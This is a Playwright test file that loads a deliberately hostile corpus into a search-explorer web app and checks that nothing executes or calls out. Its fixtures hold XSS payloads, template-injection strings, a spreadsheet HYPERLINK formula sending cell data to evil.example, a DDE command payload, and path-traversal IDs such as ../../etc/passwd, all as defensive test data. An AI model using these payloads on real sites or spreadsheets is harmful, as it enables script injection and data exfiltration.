"""A corpus that means harm, through every view: nothing runs, nothing is asked of another host, nothing leaves its box.

The ``page`` fixture fails a test in which a script ran (``window.pwned``), an error was thrown, or a request
went elsewhere.
"""

from __future__ import annotations

import json
import re
from urllib.parse import urlencode

import pytest
from explorer_world import World, served, write_run
from playwright.sync_api import expect

TEXTS = {
    "script": "<script>window.pwned = 1</script> a river",
    "image": '"><img src=x onerror="window.pwned = 2"> a bridge',
    "quotes": "' onmouseover='window.pwned = 3' autofocus onfocus='window.pwned = 4' a tower",
    "drawing": "<svg onload=window.pwned=5><animate onbegin=window.pwned=6 attributeName=x></svg> a castle",
    "frame": '<iframe srcdoc="<script>parent.pwned = 7</script>"></iframe> a market',
    "address": '<a href="javascript:window.pwned = 8">a valley</a> [a lake](javascript:window.pwned=9)',
    "closing": "</textarea></style></script></title><script>window.pwned = 10</script> a fountain",
    "template": "{{ window.pwned = 11 }} ${window.pwned = 12} {% raw %} <%= 1 %> a lamp",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"a bell")',
    "command": "+cmd|' /C calc'!A0 a desert",
    "backwards": "\u202etxt.exe \u2066 a wall \u2069 \u200b\u200f a star",
    "endless": "x" * 12_000 + " a road",
    "stacked": "a\u0300\u0301\u0302\u0303\u0304\u0305" * 80 + " a song",
    "long": "wind and ice. " * 4_000,
    "remote": (
        '<link rel=stylesheet href="http://evil.example/a.css"><meta http-equiv=refresh content="0;url=http://evil.example/"> a train'
    ),
    "entity": "&lt;script&gt;window.pwned = 13&lt;/script&gt; &amp;lt;b&amp;gt; a honey",
}
IDS = {
    "script": "../../etc/passwd",
    "image": "a/b?c#d&e=f",
    "quotes": "\"'><b>",
    "drawing": "C:\\con",
    "frame": "%00%2e%2e",
    "formula": "=1+1",
}
KINDS = [TEXTS[name][:120] for name in ("script", "image", "formula", "backwards")]
QUERY = TEXTS["image"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, new_model, sentences) -> World:
    from grace_core.collection import Collection
    from grace_core.index import build
    from grace_core.model import GraceModel
    from grace_core.readers import Corpus, Document, Judgements

    world = World(tmp_path_factory.mktemp("hostile"))
    documents = [
        Document(IDS.get(name, name), text[:3_000], text, {"kind": KINDS[place % 4], "<b>year</b>": 1900 + place})
        for place, (name, text) in enumerate(TEXTS.items())
    ]
    documents += [
        Document(f"d{i}", f"Story {i}", sentences[i], {"kind": "tale", "<b>year</b>": 1950 + i}) for i in range(20)
    ]
    queries = {"q1": QUERY, "<q2>": TEXTS["script"], "q3": sentences[3]}
    qrels = {"q1": {IDS["image"]: 1}, "<q2>": {IDS["script"]: 1}, "q3": {"d3": 1}}
    corpus = Corpus(
        documents, Judgements(queries, qrels, dict.fromkeys(queries, "test")), "made here", ["kind", "<b>year</b>"]
    )
    collection = Collection.create(corpus, world.indexes / "hostile")
    for seed, name in enumerate(("tiny-a", "tiny-b")):
        new_model("qwen2", seed=seed, end_weight=0, max_new_tokens=6).save_pretrained(world.root / "models" / name)
        build(collection, GraceModel.from_pretrained(world.root / "models" / name, device="cpu"))
    probes = [{"text": text[:2_000], "rationale": text[:2_000]} for text in TEXTS.values()]
    write_run(world.runs / "<img src=x onerror=window.pwned=14>", probes=probes, alarm=TEXTS["script"])
    rows = [
        {"_id": IDS.get(name, name), "title": text[:200], "text": text, "<i>column</i>": text[:100]}
        for name, text in TEXTS.items()
    ]
    (world.root / "upload.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return world


@pytest.fixture(scope="module")
def url(hostile):
    with served(hostile, "--collection", "hostile") as address:
        yield address


def stays_in_its_box(page) -> None:
    wide = page.evaluate("[document.scrollingElement.scrollWidth, innerWidth]")
    assert wide[0] <= wide[1] + 1, wide
    assert (
        page.locator(
            "iframe, object, embed, a[href^='javascript:'], [onmouseover], [onfocus], [onload], [onerror]"
        ).count()
        == 0
    )


def link(url: str, **more: str) -> str:
    return f"{url}?{urlencode({'collection': 'hostile', 'a': 'tiny-a:rationale', 'b': 'tiny-b:rationale', 'k': '20', 'q': QUERY} | more)}"


def test_results_and_facets(page, url):
    page.goto(link(url))
    expect(page.locator(".g-results:not([data-busy]) .g-column-b .g-hit")).to_have_count(20)
    stays_in_its_box(page)
    page.locator("#g-facets summary").click()
    page.locator("#g-facets button, #g-facets label, #g-facets input").first.click()
    stays_in_its_box(page)
    page.goto(link(url))
    expect(page.locator(".g-results:not([data-busy]) .g-column-b .g-hit")).to_have_count(20)
    for i in range(0, 20, 4):
        page.locator(".g-column-a .g-hit").nth(i).hover()


@pytest.mark.parametrize("name", TEXTS)
def test_an_opened_document_its_reasons_and_its_edits(page, url, name):
    page.goto(link(url, doc=IDS.get(name, name)))
    dialog = page.get_by_role("dialog")
    expect(dialog).to_be_visible()
    stays_in_its_box(page)
    dialog.get_by_role("tab", name="Why?").click()
    expect(dialog.locator(".g-why-body > .g-sum").or_(dialog.locator(".g-banner")).first).to_be_visible()
    stays_in_its_box(page)
    dialog.get_by_role("tab", name="What if?").click()
    expect(dialog.locator(".g-outcome .g-new").or_(dialog.locator(".g-banner")).first).to_be_visible()
    stays_in_its_box(page)


def test_the_map(page, url, hostile):
    page.goto(f"{url}?tab=map&corpus=hostile&colour=kind")
    expect(page.locator(".g-map:not([data-busy]) .g-map-chart:not([hidden]) .main-svg").first).to_be_visible()
    stays_in_its_box(page)
    box = page.locator("[data-side=left] .g-map-canvas").bounding_box()
    for i in range(12):
        page.mouse.move(box["x"] + box["width"] * (i + 1) / 14, box["y"] + box["height"] * ((i * 5) % 12 + 1) / 14)
    stays_in_its_box(page)


def test_evaluations(page, url):
    page.goto(f"{url}?tab=evaluate&on=hostile&x=tiny-a:rationale&y=tiny-b:rationale")
    page.locator("#g-eval-run, #g-evaluate, button:has-text('Evaluate')").last.click()
    expect(page.locator("#g-eval-scores .g-eval-lexical")).to_be_visible()
    stays_in_its_box(page)


def test_a_training_run(page, url):
    page.goto(f"{url}?tab=training")
    expect(page.locator(".g-chart").first).to_be_visible()
    expect(page.locator("#g-probes")).to_contain_text(re.compile("pwned|river"))
    stays_in_its_box(page)


def test_an_upload(page, url, hostile):
    page.goto(url)
    expect(page.locator(".g-example").first).to_be_visible()
    page.get_by_role("tab", name="Corpus").click()
    page.set_input_files("#g-file input[type=file]", str(hostile.root / "upload.jsonl"))
    expect(page.locator(".g-table")).to_be_visible()
    stays_in_its_box(page)
    assert page.locator(".g-table script, .g-table img").count() == 0


@pytest.mark.parametrize(("width", "scheme"), [(1180, "light"), (1180, "dark"), (640, "light")])
def test_narrow_windows(page, url, width, scheme):
    page.set_viewport_size({"width": width, "height": 800})
    page.emulate_media(color_scheme=scheme)
    page.goto(link(url))
    expect(page.locator(".g-results:not([data-busy]) .g-column-b .g-hit")).to_have_count(20)
    stays_in_its_box(page)
